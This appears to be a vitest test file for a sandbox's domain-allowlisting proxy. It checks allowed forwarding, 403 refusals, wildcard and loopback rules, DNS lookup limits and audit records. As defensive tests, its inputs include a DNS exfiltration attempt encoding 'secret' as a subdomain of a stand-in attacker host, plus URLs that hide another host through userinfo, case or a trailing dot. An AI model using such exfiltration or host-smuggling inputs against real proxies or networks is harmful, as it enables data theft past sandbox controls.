import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import { createConnection, createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { BadRequestError } from '../../core/contract/errors.js';
import { startDomainProxy, type DomainProxy, type HostLookup } from './startDomainProxy.js';

// the proxy outside the sandbox forwards to the allowed hosts and refuses every other, naming it.
// Every name resolves through the proxy's own lookup (injected): *.test to the loopback, where the servers listen. The
// proxy serves a listener on the loopback, as it serves the one a sandbox's forwarder hands it

/** .what = a lookup that resolves every *.test name to 127.0.0.1, as dns.lookup answers with { all: true } */
const testLookup = ((hostname: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => {
  if (!hostname.endsWith('.test')) return callback(Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' }));
  return options.all ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4);
}) as unknown as HostLookup;

// the port each proxy's listener took
const portOf = new Map<DomainProxy, number>();

/** .what = starts a proxy, serving a listener of the test's own on 127.0.0.1 (a port of its choosing) */
const startServedProxy = async (...args: Parameters<typeof startDomainProxy>): Promise<DomainProxy> => {
  const proxy = await startDomainProxy(...args);
  const listener = createTcpServer();
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  proxy.serve(listener);
  portOf.set(proxy, (listener.address() as { port: number }).port);
  return proxy;
};

/** .what = what a request through the proxy's listener got back */
interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

/** .what = a proxy request (an absolute URL) sent to the proxy's listener, as curl sends it with HTTP_PROXY */
const viaProxy = (proxy: DomainProxy, url: string, headers: Record<string, string> = {}): Promise<Answer> =>
  new Promise((resolve, reject) => {
    const host = /^[a-z]+:\/\/(?:[^@/]*@)?([^/]+)/.exec(url)?.[1] ?? 'localhost';
    const sent = request(
      { host: '127.0.0.1', port: portOf.get(proxy), path: url, headers: { host, ...headers }, agent: false },
      (response) => {
        let body = '';
        response.on('data', (chunk) => (body += chunk));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body }));
      },
    );
    sent.on('error', reject);
    sent.end();
  });

/** .what = a CONNECT to the proxy's listener: the status line, and the tunnel's socket when it was opened */
const connectVia = (
  proxy: DomainProxy,
  authority: string,
): Promise<{ status: number; reason: string; body: string; socket: Socket | null }> =>
  new Promise((resolve, reject) => {
    const sent = request({ host: '127.0.0.1', port: portOf.get(proxy), method: 'CONNECT', path: authority, agent: false });
    sent.on('connect', (response, socket, head) => {
      if (response.statusCode === 200) return resolve({ status: 200, reason: response.statusMessage ?? '', body: '', socket });
      let body = String(head);
      socket.on('data', (chunk) => (body += chunk));
      socket.on('end', () => resolve({ status: response.statusCode ?? 0, reason: response.statusMessage ?? '', body, socket: null }));
    });
    sent.on('error', reject);
    sent.end();
  });

let web: Server;
let webPort: number;
let echo: TcpServer;
let echoPort: number;
const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
beforeAll(async () => {
  web = createServer((incoming, response) => {
    seen.push({ url: incoming.url ?? '', headers: incoming.headers });
    response.setHeader('x-from', 'web');
    response.end(`hello from ${incoming.headers.host}${incoming.url}`);
  });
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  webPort = (web.address() as { port: number }).port;
  echo = createTcpServer((socket) => socket.pipe(socket));
  await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve));
  echoPort = (echo.address() as { port: number }).port;
});
afterAll(async () => {
  await new Promise<void>((resolve) => web.close(() => resolve()));
  await new Promise<void>((resolve) => echo.close(() => resolve()));
});

describe('network by domain: the proxy outside the sandbox', () => {
  let proxy: DomainProxy;
  beforeAll(async () => {
    proxy = await startServedProxy({ allowedDomains: ['allowed.test', '*.wild.test', 'exact.wild2.test'] }, { lookup: testLookup });
  });
  afterAll(async () => proxy?.close());

  it('given an http request for an allowed host, then it is forwarded with Host from the URL and without the hop-by-hop headers', async () => {
    const answer = await viaProxy(proxy, `http://allowed.test:${webPort}/path?q=1`, {
      host: 'denied.test',
      'proxy-authorization': 'Basic eA==',
      'x-kept': 'yes',
    });
    expect(answer).toMatchObject({ status: 200, body: `hello from allowed.test:${webPort}/path?q=1` });
    expect(answer.headers['x-from']).toBe('web');
    const got = seen.at(-1)!;
    expect(got.headers.host).toBe(`allowed.test:${webPort}`);
    expect(got.headers['x-kept']).toBe('yes');
    expect(got.headers['proxy-authorization']).toBeUndefined();
  });

  it('given an http request for a host not allowed, then 403, and the body names the host and the allowed domains', async () => {
    const before = seen.length;
    const answer = await viaProxy(proxy, `http://denied.test:${webPort}/secret`);
    expect(answer.status).toBe(403);
    expect(answer.headers['x-bhrain-proxy']).toBe('denied');
    expect(answer.body).toBe(
      "bhrain: denied.test is not an allowed domain: the sandbox's network reaches only allowed.test, *.wild.test, exact.wild2.test (--allow-domain, network.allowedDomains). Ask the user to allow it; retrying will not help.\n",
    );
    expect(seen.length).toBe(before);
  });

  it('given a URL that hides another host (userinfo, case, a trailing dot), then the host the URL names is judged and connected', async () => {
    expect((await viaProxy(proxy, `http://allowed.test@denied.test:${webPort}/`)).status).toBe(403);
    expect((await viaProxy(proxy, `http://DENIED.test.:${webPort}/`)).body).toMatch(/^bhrain: denied\.test is not an allowed domain/);
    expect((await viaProxy(proxy, `http://ALLOWED.TEST.:${webPort}/x`)).status).toBe(200);
  });

  it('given a request that is not a proxy request (a relative path, https://), then 400 saying what the proxy takes', async () => {
    const relative = await viaProxy(proxy, '/index.html');
    expect(relative.status).toBe(400);
    expect(relative.body).toMatch(
      /this is the sandbox's proxy: it takes requests for absolute http:\/\/ URLs \(HTTP_PROXY\) and CONNECT host:port \(HTTPS_PROXY\)/,
    );
    expect((await viaProxy(proxy, `https://allowed.test:${webPort}/`)).status).toBe(400);
  });

  it('given CONNECT to an allowed host, then 200 and a tunnel that carries bytes both ways', async () => {
    const tunnel = await connectVia(proxy, `allowed.test:${echoPort}`);
    expect(tunnel.status).toBe(200);
    const back = await new Promise<string>((resolve) => {
      tunnel.socket!.once('data', (chunk) => resolve(String(chunk)));
      tunnel.socket!.write('ping through the tunnel');
    });
    tunnel.socket!.destroy();
    expect(back).toBe('ping through the tunnel');
  });

  it('given CONNECT to a host not allowed, or to an address, then 403 whose reason phrase and body name it', async () => {
    const refused = await connectVia(proxy, `denied.test:${echoPort}`);
    expect(refused.status).toBe(403);
    expect(refused.reason).toMatch(/^bhrain: denied\.test is not an allowed domain: the sandbox's network reaches only allowed\.test/);
    expect(refused.body).toMatch(/^bhrain: denied\.test is not an allowed domain/);
    expect((await connectVia(proxy, `127.0.0.1:${echoPort}`)).reason).toMatch(/^bhrain: 127\.0\.0\.1 is not an allowed domain/);
    expect((await connectVia(proxy, 'allowed.test')).status).toBe(400);
  });

  it('given a name allowed only by a wildcard that resolves to the loopback, then it is refused; by its exact name, it is reached', async () => {
    const wild = await viaProxy(proxy, `http://a.wild.test:${webPort}/`);
    expect(wild.status).toBe(403);
    expect(wild.body).toMatch(
      /a\.wild\.test was refused \(a\.wild\.test resolves only to loopback or link-local addresses, which a name allowed only by the wildcard \*\.wild\.test may not reach: allow it by its exact name\)/,
    );
    expect((await connectVia(proxy, `a.wild.test:${echoPort}`)).status).toBe(403);
    expect((await viaProxy(proxy, `http://exact.wild2.test:${webPort}/`)).status).toBe(200);
  });

  it('given an allowed host that does not answer, then 502 naming it and why', async () => {
    const closed = createTcpServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as { port: number }).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const answer = await viaProxy(proxy, `http://allowed.test:${port}/`);
    expect(answer).toMatchObject({ status: 502, body: 'bhrain: the proxy could not reach allowed.test: ECONNREFUSED\n' });
  });
});

describe('DNS is no channel out: the proxy looks up only names it allows', () => {
  it('given requests and tunnels to names not allowed (a secret spelled as a subdomain), then none is looked up; an allowed one is', async () => {
    const looked: string[] = [];
    const recordingLookup = ((hostname: string, options: unknown, callback: (...args: unknown[]) => void) => {
      looked.push(hostname);
      return (testLookup as unknown as (...args: unknown[]) => void)(hostname, options, callback);
    }) as unknown as HostLookup;
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test', '*.wild.test'] }, { lookup: recordingLookup });
    try {
      expect((await viaProxy(proxy, `http://c2VjcmV0.attacker.test:${webPort}/`)).status).toBe(403);
      expect((await connectVia(proxy, `c2VjcmV0.wild.test.attacker.test:${echoPort}`)).status).toBe(403);
      expect((await viaProxy(proxy, `http://allowed.test:${webPort}/`)).status).toBe(200);
      expect(looked).toEqual(['allowed.test']);
    } finally {
      await proxy.close();
    }
  });
});

describe('network by domain: what the proxy records', () => {
  it('given requests reached and refused, then the audit counts each host once per request, and deniedSince names the hosts refused after a mark', async () => {
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
    try {
      await viaProxy(proxy, `http://allowed.test:${webPort}/1`);
      await connectVia(proxy, `allowed.test:${echoPort}`).then((tunnel) => tunnel.socket?.destroy());
      await viaProxy(proxy, `http://one.test:${webPort}/`);
      const mark = proxy.mark();
      expect(proxy.deniedSince(mark)).toEqual([]);
      await connectVia(proxy, `two.test:${echoPort}`);
      await viaProxy(proxy, `http://one.test:${webPort}/`);
      expect(proxy.deniedSince(mark)).toEqual(['one.test', 'two.test']);
      expect(proxy.audit()).toEqual({
        allowedDomains: ['allowed.test'],
        hosts: [{ host: 'allowed.test', requests: 2 }],
        denied: [
          { host: 'one.test', requests: 2 },
          { host: 'two.test', requests: 1 },
        ],
      });
    } finally {
      await proxy.close();
    }
  });

  it('given a host that was refused only upstream (no answer), then it is in neither list: hosts are those reached', async () => {
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
    try {
      await viaProxy(proxy, 'http://allowed.test:1/');
      expect(proxy.audit()).toMatchObject({ hosts: [], denied: [] });
    } finally {
      await proxy.close();
    }
  });

  it('given more distinct hosts refused than it keeps, then the rest are counted together', async () => {
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
    try {
      for (let index = 0; index < 1_005; index++) await connectVia(proxy, `h${index}.test:1`);
      const { denied } = proxy.audit();
      expect(denied.length).toBe(1_001);
      expect(denied.at(-1)).toEqual({ host: '(other hosts)', requests: 5 });
    } finally {
      await proxy.close();
    }
  });

  it('given more connections at once than it serves (256), then the next is closed at once, and one is served again when one ends', async () => {
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
    const open = (): Promise<Socket> =>
      new Promise((resolve) => {
        const socket = createConnection(portOf.get(proxy)!, '127.0.0.1', () => resolve(socket));
      });
    try {
      const held = await Promise.all(Array.from({ length: 256 }, open));
      const extra = await open();
      await new Promise((resolve) => extra.once('close', resolve));
      held[0].destroy();
      await new Promise((resolve) => setTimeout(resolve, 50));
      const tunnel = await connectVia(proxy, `allowed.test:${echoPort}`);
      expect(tunnel.status).toBe(200);
      tunnel.socket?.destroy();
      for (const socket of held) socket.destroy();
    } finally {
      await proxy.close();
    }
  });

  it('given close, then its listeners are closed and the connections it served are cut', async () => {
    const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
    const tunnel = await connectVia(proxy, `allowed.test:${echoPort}`);
    expect(tunnel.status).toBe(200);
    await proxy.close();
    await new Promise((resolve) => tunnel.socket!.once('close', resolve));
    const refused = await new Promise<string>((resolve) =>
      createConnection(portOf.get(proxy)!, '127.0.0.1', () => resolve('connected')).on('error', (error: NodeJS.ErrnoException) =>
        resolve(error.code ?? error.message),
      ),
    );
    expect(refused).toBe('ECONNREFUSED');
  });

  it('given a bad or empty list of patterns, then it does not start, naming what is wrong', async () => {
    await expect(startDomainProxy({ allowedDomains: ['https://x.com'] })).rejects.toThrow(BadRequestError);
    await expect(startDomainProxy({ allowedDomains: ['https://x.com'] })).rejects.toThrow(
      /^allowedDomains: "https:\/\/x\.com" is not a domain pattern/,
    );
    await expect(startDomainProxy({ allowedDomains: [] })).rejects.toThrow(/allowedDomains is empty/);
  });
});
